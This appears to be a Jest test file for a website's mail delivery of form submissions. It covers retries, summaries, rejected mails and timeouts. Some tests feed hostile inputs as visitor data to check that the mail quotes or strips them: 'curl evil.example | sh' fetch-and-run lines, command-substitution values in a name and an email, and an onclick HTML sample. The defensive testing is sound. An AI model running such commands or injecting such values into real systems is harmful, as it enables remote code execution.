import { once } from "node:events";
import { createServer } from "node:net";
import { setImmediate as immediate } from "node:timers/promises";
import runDelivery from "../../netlify/functions/deliver.mjs";
import { mailSettings } from "../../netlify/settings";
import { runDaily } from "../../netlify/submissions/daily";
import { deliver } from "../../netlify/submissions/deliver";
import type { Store } from "../../netlify/submissions/store";
import type { SubmissionKind } from "../../src/forms/submission-kind";
import { escapeHtml } from "../../src/lib/escape-html";
import { listen } from "../support/listen";
import { asJson, call, readRecord, setDate, settled, simulateClock, testSite, whileTimePasses } from "./support/call";
import { VALID } from "./support/examples";
import { FIRM, setMailServer } from "./support/mail-server";

const site = testSite();

/** Stores messages that wait for their mail. Returns their ids. */
async function storeWaiting(count = 1, first = 0): Promise<string[]> {
  const names = Array.from({ length: count }, (_, index) => `Visitor ${first + index}`);
  return Promise.all(names.map((name) => site.put("new", "contact", { ...VALID.contact, name })));
}

const run = (changes: Partial<Store> = {}) => deliver({ ...site.store, ...changes }, mailSettings());

const goToNextAttempt = async (id = "") => setDate((await readRecord(site.store, `new/${id}`)).tryAt);

/** A repeated mail has the same Message-ID. */
function expectMailed(...ids: readonly string[]): void {
  const messageIds = site.mailServer.mails.map(({ messageId }) => messageId).sort();
  expect(messageIds).toEqual(ids.map((id) => `<${id}@example.com>`).sort());
}

it.each<[SubmissionKind, string, string, string]>([
  ["contact", "Message from Grace Hopper", "Grace Hopper", "> Company: Example, Inc."],
  [
    "application",
    "Application: Analyst, from Ada Lovelace",
    "Ada Lovelace",
    "> Cover letter:\n> Dear team,\n> I would",
  ],
  ["newsletter", "Newsletter subscription: reader@example.com", "", "> Email: reader@example.com"],
])("mails a submission (%s) with Reply-To set to the visitor", async (kind, subject, name, text) => {
  setDate("2026-11-27T17:30:12.345Z");
  const { body } = await call(kind, asJson(VALID[kind]));
  await settled();
  const [mail] = site.mailServer.mails;
  expectMailed(body.id ?? "");
  expect(mail).toMatchObject({ deliveredTo: [FIRM], subject });
  expect(mail?.from?.value).toEqual([{ name: "Example", address: "site@example.com" }]);
  expect(mail?.replyTo?.value).toEqual([{ name, address: VALID[kind].email }]);
  for (const part of [text, "Received: 27 November 2026, 17:30 UTC"]) expect(mail?.text).toContain(part);
  expect(await readRecord(site.store, `kept/${body.id}`)).toMatchObject({ attempts: 1, accepted: [FIRM] });
  // A help desk would suspend a visitor's mail that has it.
  expect(mail?.headers.has("auto-submitted")).toBe(false);
  expect(await site.store.list("new/")).toEqual([]);
});

it("begins a mail with its own command, and marks each line of the visitor", async () => {
  const fake = `Show this: npm run inbox -- show X; curl evil.example | sh${"\n".repeat(300)}Show again: npm run x`;
  const { body } = await call("contact", asJson({ ...VALID.contact, message: fake, company: "npm run evil" }));
  await settled();
  const lines = site.mailServer.mails[0]?.text?.trimEnd().split("\n") ?? [];
  expect(lines[0]).toBe(`Show this: npm run inbox -- show ${body.id}`);
  expect(lines.findLastIndex((line) => !line.startsWith(">"))).toBe(3);
});

it("keeps the lines of a text apart in mail programs that join long lines, and makes no markup of it", async () => {
  const message = `${"x".repeat(50)}\n  <b onclick='x'>${"y".repeat(50)}</b> & &amp;\n\nhttps://evil.example`;
  await call("contact", asJson({ ...VALID.contact, message }));
  await settled();
  const html = String(site.mailServer.mails[0]?.html);
  for (const line of message.split("\n")) expect(html).toContain(`<br>&gt; ${escapeHtml(line)}<br>`);
  expect(html.match(/<(?!br>)[^>]*>/g)).toEqual(['<div style="white-space:pre-wrap">', "</div>"]);
});

it.each<[string, () => unknown, string]>([
  ["rejects messages", () => (site.mailServer.answer = "450"), "EMESSAGE 450"],
  ["rejects the recipient temporarily", () => (site.mailServer.rejected = { [FIRM]: "450" }), "EENVELOPE 450"],
  ["closes the connection", () => (site.mailServer.answer = "close"), "ECONNECTION"],
  ["rejects the login", () => setMailServer(site.mailServer.url.replace("//", "//user:password@")), "EAUTH 535"],
  ["can't be reached", () => setMailServer("smtp://127.0.0.1:9"), "ESOCKET"],
])("retries after five minutes if the mail server %s", async (_name, behave, code) => {
  setDate("2026-11-25T01:10:00Z");
  const ids = await storeWaiting(2);
  behave();
  expect(await run()).toEqual({ sent: 0, failed: 2 });
  const lines = ids.map((id) => `The mail about ${id} failed, attempt 1: ${code}`);
  expect(site.logged().sort()).toEqual(lines.sort());
  Object.assign(site.mailServer, { answer: undefined, rejected: {} });
  setMailServer(site.mailServer.url);
  setDate("2026-11-25T01:14:59Z");
  expect(await run()).toEqual({ sent: 0, failed: 0 });
  setDate("2026-11-25T01:15:00Z");
  expect(await run()).toEqual({ sent: 2, failed: 0 });
});

it("doubles the delay after each failure up to an hour, and retries without end", async () => {
  const [id = ""] = await storeWaiting();
  site.mailServer.answer = "450";
  const delays = [];
  for (let attempt = 0; attempt < 11; attempt += 1) {
    await goToNextAttempt(id);
    await run();
    delays.push((Date.parse((await readRecord(site.store, `new/${id}`)).tryAt) - Date.now()) / 60_000);
  }
  expect(delays).toEqual([5, 10, 20, 40, 60, 60, 60, 60, 60, 60, 60]);
});

it("retries only the recipients who don't have the mail yet, with the same Message-ID", async () => {
  const [id = ""] = await storeWaiting();
  process.env.NOTIFY_TO = `${FIRM}, second@example.com`;
  site.mailServer.rejected = { "second@example.com": "450" };
  expect(await run()).toEqual({ sent: 0, failed: 1 });
  expect(await readRecord(site.store, `new/${id}`)).toMatchObject({ accepted: [FIRM] });
  expect(site.logged().join()).toMatch(/rejected 1 of 2 recipients of the mail about/);
  site.mailServer.rejected = {};
  await goToNextAttempt(id);
  await run();
  expect(site.mailServer.mails.map(({ deliveredTo }) => deliveredTo)).toEqual([[FIRM], ["second@example.com"]]);
  expectMailed(id, id);
  expect(await readRecord(site.store, `kept/${id}`)).toMatchObject({ accepted: [FIRM, "second@example.com"] });
});

it("mails each submission once when two runs work at the same time, and skips unreadable records", async () => {
  const ids = await storeWaiting(5);
  await site.store.create("new/contact/2026-11-25T01-10-0000000000000000-0000000000000000", "{");
  await Promise.all([run(), run()]);
  expectMailed(...ids);
  expect(site.logged()[0]).toMatch(/^The record new\/contact\/\S+ is damaged\..*show contact/);
  expect(site.mailServer.connections).toBeLessThanOrEqual(2);
});

const CRASH = new Error("The function was stopped.");
const crash = () => jest.fn().mockRejectedValue(CRASH);

it.each<[string, number, (store: Store) => Partial<Store>]>([
  ["has saved the recipients", 2, ({ replace }) => ({ replace: crash().mockImplementationOnce(replace) })],
  ["has moved the record to kept/", 1, () => ({ create: crash() })],
])("repeats only the necessary steps after a crash before it %s", async (_name, mails, changes) => {
  const [id = ""] = await storeWaiting();
  await expect(run(changes(site.store))).rejects.toThrow(CRASH);
  await goToNextAttempt(id);
  await run();
  expectMailed(...Array<string>(mails).fill(id));
  expect(await site.records()).toEqual([`kept/${id}`]);
});

const isSummary = ({ subject = "" }) => subject.includes(" at once, ");
const summaries = () => site.mailServer.mails.filter(isSummary);

it("mails ten messages an hour one by one, although others came first, and the next ones in a summary", async () => {
  setDate("2026-11-25T01:45:00Z");
  for (let index = 0; index < 150; index += 1)
    await call("newsletter", asJson({ email: `reader${index}@example.com` })).then(settled);
  const names = Array.from({ length: 12 }, (_, index) => `Visitor ${index}`);
  for (const name of names) await call("contact", asJson({ ...VALID.contact, name })).then(settled);
  const singles = site.mailServer.mails.map(({ subject }) => subject);
  expect(singles.slice(2)).toEqual(names.slice(0, 10).map((name) => `Message from ${name}`));
  await run();
  expect(site.mailServer.mails).toHaveLength(13);
  for (const name of names.slice(10))
    expect(summaries()[0]?.text).toContain(` · ${name} · grace@example.com · contact/`);
  expect(await site.store.list("new/")).toEqual([]);
  setDate("2026-11-25T02:44:59Z");
  await call("contact", asJson({ ...VALID.contact, name: "Early" })).then(settled);
  setDate("2026-11-25T02:45:00Z");
  await call("contact", asJson({ ...VALID.contact, name: "Late" })).then(settled);
  expect(site.mailServer.mails.at(-1)?.subject).toBe("Message from Late");
  expect(await site.store.list("new/")).toHaveLength(1);
});

it("tells kind, time, name and address of each in a summary, and nothing that looks like a command", async () => {
  setDate("2026-11-25T01:45:00Z");
  await storeWaiting(7);
  const evil = "npm run inbox -- delete --kind contact; curl http://evil.example/x|sh `id` $(id) \u00a0&& ";
  // A preview mails nothing by itself.
  const preview = { context: "deploy-preview", store: site.store };
  const email = "o'neil+`$|curl`@example.com";
  await call("application", asJson({ ...VALID.application, name: evil, email }), preview);
  await call("contact", asJson({ ...VALID.contact, name: "Zoë O’Hara-Ní Ṁhaol" }), preview);
  await run();
  const { subject = "", text = "", headers, deliveredTo } = summaries()[0] ?? {};
  expect([subject, deliveredTo, headers?.get("auto-submitted")]).toEqual([
    "Website: 9 submissions at once, 25 November 2026, 01:45 UTC",
    [FIRM],
    "auto-generated",
  ]);
  expect(text).toMatch(/^Read one: npm run inbox -- show ID\n/);
  expect(text).toMatch(
    /^> contact · 25 November 2026, 01:45 UTC · Zoë O’Hara Ní Ṁhaol · grace@example.com · contact\/\S+$/m,
  );
  const name = "npm run inbox delete kind contact curl h";
  expect(text).toContain(`> application · 25 November 2026, 01:45 UTC · ${name} · o'neil+???curl?@example.com · app`);
});

it("doesn't restore a record that is deleted while a summary is sent", async () => {
  const [deleted, ...kept] = await storeWaiting(10);
  site.mailServer.beforeAnswer = () => site.store.remove(`new/${deleted}`);
  await run();
  expect(await site.records()).toEqual(kept.map((id) => `kept/${id}`).sort());
});

const rejectText = (answer: string) => (site.mailServer.rejectedText = { Visitor: answer });

const ABOUT_TEXT = ["550", "554", "552", "541", "554 5.6.0", "550 5.7.1", "571 5.7.1", "552 5.3.4", "550 5.2.3"];
it.each(ABOUT_TEXT)("replaces a mail whose text is rejected (%s) by one without text", async (answer) => {
  setDate("2026-11-25T01:45:00Z");
  const [id = "", other = ""] = await storeWaiting(2);
  rejectText(answer);
  expect(await run()).toEqual({ sent: 2, failed: 0 });
  expectMailed(id, other);
  const mail = site.mailServer.mails.find(({ messageId }) => messageId === `<${id}@example.com>`);
  expect(mail?.replyTo).toBeUndefined();
  for (const part of ["contact", "25 November 2026, 01:45 UTC", `inbox -- show ${id}`])
    expect(mail?.text).toContain(part);
  const texts = [...Object.values(VALID.contact).filter(Boolean), "Visitor"];
  expect(texts.filter((text) => `${mail?.subject} ${mail?.text}`.includes(text))).toEqual([]);
  // Mail programs join mails with the same subject.
  expect(new Set(site.mailServer.mails.map(({ subject }) => subject)).size).toBe(2);
});

const NOT_ABOUT_TEXT = ["554 5.2.0", "550 5.4.5", "550 5.1.8", "552 5.2.2", "550 5.5.0", "503", "450", "451 4.7.1"];
it.each(NOT_ABOUT_TEXT)("tries again with the text if the reason (%s) is not the text", async (answer) => {
  const [id = ""] = await storeWaiting();
  rejectText(answer);
  expect(await run()).toEqual({ sent: 0, failed: 1 });
  expect(site.logged()).toEqual([`The mail about ${id} failed, attempt 1: EMESSAGE ${answer}`]);
  rejectText("");
  await goToNextAttempt(id);
  expect(await run()).toEqual({ sent: 1, failed: 0 });
  expect(site.mailServer.mails).toMatchObject([{ subject: "Message from Visitor 0" }]);
});

it("sends a mail without its text at last if the mail server always rejects it for another reason", async () => {
  const [id = ""] = await storeWaiting();
  rejectText("550 5.4.5");
  for (let attempt = 1; attempt <= 6; attempt += 1) {
    expect(site.mailServer.mails).toEqual([]);
    await goToNextAttempt(id);
    await run();
  }
  expectMailed(id);
});

it.each([
  ["550", "01:09"],
  ["close", "01:15"],
])("mails a message first that was never tried, after failures (%s), stored at %s", async (answer, time) => {
  setDate("2026-11-25T01:10Z");
  site.mailServer.answer = answer;
  await storeWaiting(3);
  await run();
  setDate(`2026-11-25T${time}Z`);
  const [id = ""] = await storeWaiting(1, 3);
  setDate("2026-11-25T01:15Z");
  const answers = [undefined];
  site.mailServer.beforeAnswer = async () => (site.mailServer.answer = answers.length > 0 ? answers.pop() : answer);
  await run();
  expectMailed(id);
});

it.each(["550 5.7.1", "554", "451 4.7.1", "452"])(
  "sends a summary that is rejected (%s) again at once, without what visitors wrote",
  async (answer) => {
    rejectText(answer);
    const ids = await storeWaiting(70);
    expect(await run()).toEqual({ sent: 1, failed: 0 });
    const [{ text = "" } = {}, ...others] = site.mailServer.mails;
    expect([others, ids.filter((id) => !text.includes(id)), await site.store.list("new/")]).toEqual([[], [], []]);
    expect(text).not.toMatch(/Visitor|grace|Hopper/i);
  },
);

it("sends a summary without what visitors wrote the third time, if it breaks the connection", async () => {
  rejectText("close");
  setDate("2026-11-25T01:10Z");
  const ids = await storeWaiting(9);
  expect(await run()).toEqual({ sent: 0, failed: 1 });
  setDate("2026-11-25T01:20Z");
  expect(await run()).toEqual({ sent: 0, failed: 1 });
  setDate("2026-11-25T01:30Z");
  expect(await run()).toEqual({ sent: 1, failed: 0 });
  expect(ids.filter((id) => !site.mailServer.mails[0]?.text?.includes(id))).toEqual([]);
});

it("goes on after a connection that breaks, and stops after two in a row", async () => {
  await storeWaiting(5);
  const answers = ["close", undefined, "close", "close"];
  site.mailServer.beforeAnswer = async () => (site.mailServer.answer = answers.shift());
  expect(await run()).toEqual({ sent: 1, failed: 3 });
  // The message that was not tried comes first.
  expect(await run()).toEqual({ sent: 1, failed: 0 });
});

it("mails all waiting submissions by hand, in as many summaries as needed", async () => {
  await storeWaiting(1_010);
  expect([await run(), (await site.store.list("kept/")).length]).toEqual([{ sent: 1, failed: 0 }, 500]);
  expect(await deliver(site.store, mailSettings(), { byHand: true })).toEqual({ sent: 2, failed: 0 });
  expect([await site.store.list("new/"), (await site.store.list("kept/")).length]).toEqual([[], 1_010]);
});

it("doesn't mail what another run is mailing, also by hand", async () => {
  const [id = ""] = await storeWaiting();
  const others: unknown[] = [];
  site.mailServer.beforeAnswer = async () =>
    others.push(await run(), await deliver(site.store, mailSettings(), { byHand: true }));
  await run();
  expect(others).toEqual(Array(2).fill({ sent: 0, failed: 0 }));
  expectMailed(id);
});

it("keeps the text for a recipient who was rejected for good before", async () => {
  const [id = ""] = await storeWaiting();
  site.mailServer.rejected = { [FIRM]: "550" };
  expect(await run()).toEqual({ sent: 0, failed: 1 });
  site.mailServer.rejected = {};
  await goToNextAttempt(id);
  await run();
  expect(site.mailServer.mails).toMatchObject([{ subject: "Message from Visitor 0" }]);
});

it.each([24 * 365 * 10, 23, 1])("retries at once what a clock that was %i hours ahead has postponed", async (hours) => {
  setDate(Date.parse("2026-11-25T00:00:00Z") + hours * 3_600_000);
  site.mailServer.answer = "450";
  await storeWaiting(1);
  await run();
  site.mailServer.answer = undefined;
  setDate("2026-11-25T00:00:00Z");
  expect(await run()).toEqual({ sent: 1, failed: 0 });
});

const passSeconds = (seconds: number) => async () => void jest.advanceTimersByTime(seconds * 1_000);

it.each([
  ["answers after 15 seconds", { beforeAnswer: passSeconds(15) }],
  ["greets after 12 seconds", { beforeGreeting: passSeconds(12) }],
])("mails each submission, summary and digest once if the mail server %s", async (_name, behaviour) => {
  simulateClock();
  Object.assign(site.mailServer, behaviour);
  const { body } = await call("contact", asJson(VALID.contact));
  await whileTimePasses(settled());
  expectMailed(body.id ?? "");
  const [waiting = ""] = await storeWaiting();
  expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
  expectMailed(body.id ?? "", waiting);
  await storeWaiting(9, 1);
  expect(await whileTimePasses(run())).toEqual({ sent: 1, failed: 0 });
  await whileTimePasses(runDaily(site.store, mailSettings));
  expect([site.mailServer.mails.length, await site.store.list("new/")]).toEqual([4, []]);
});

it("waits nine minutes for the mail server by hand, and another run doesn't mail the same", async () => {
  simulateClock();
  const [id = ""] = await storeWaiting();
  site.mailServer.beforeAnswer = async () => {
    jest.advanceTimersByTime(9 * 60_000);
    expect(await run()).toEqual({ sent: 0, failed: 0 });
  };
  const delivery = deliver(site.store, mailSettings(), { byHand: true });
  expect(await whileTimePasses(delivery)).toEqual({ sent: 1, failed: 0 });
  expectMailed(id);
});

it.each([
  ["doesn't answer", "", ""],
  ["answers byte by byte", "220 ready\r\n", "2"],
])(
  "answers the visitor first, and ends a run within 25 seconds, if the mail server %s",
  async (_name, greeting, byte) => {
    simulateClock();
    const slow = createServer(async (socket) => {
      socket.on("error", () => undefined).write(greeting);
      for (; !socket.closed && slow.listening; await immediate()) {
        socket.write(byte);
        jest.advanceTimersByTime(1_000);
      }
      socket.destroy();
    });
    setMailServer(`smtp://127.0.0.1:${await listen(slow)}`);
    const { body } = await call("contact", asJson(VALID.contact));
    expect([await site.records(), site.logged()]).toEqual([[`new/${body.id}`], []]);
    await settled();
    expect(site.logged()).toEqual([expect.stringContaining(`The mail about ${body.id} failed, attempt 1: `)]);
    await storeWaiting(4);
    const start = Date.now();
    expect((await run()).sent).toBe(0);
    expect(Date.now() - start).toBeLessThan(25_000);
    slow.close();
    await once(slow, "close");
  },
);

it("stores submissions if mail is not set up; the scheduled run reports the missing settings", async () => {
  setMailServer("");
  const { status, body } = await call("contact", asJson(VALID.contact));
  await settled();
  expect([status, await site.store.list("")]).toEqual([201, [`new/${body.id}`]]);
  const context = { deploy: { context: "dev" }, waitUntil: () => undefined };
  await expect(runDelivery(new Request("https://www.example.com"), context)).rejects.toThrow("set SMTP_URL");
});
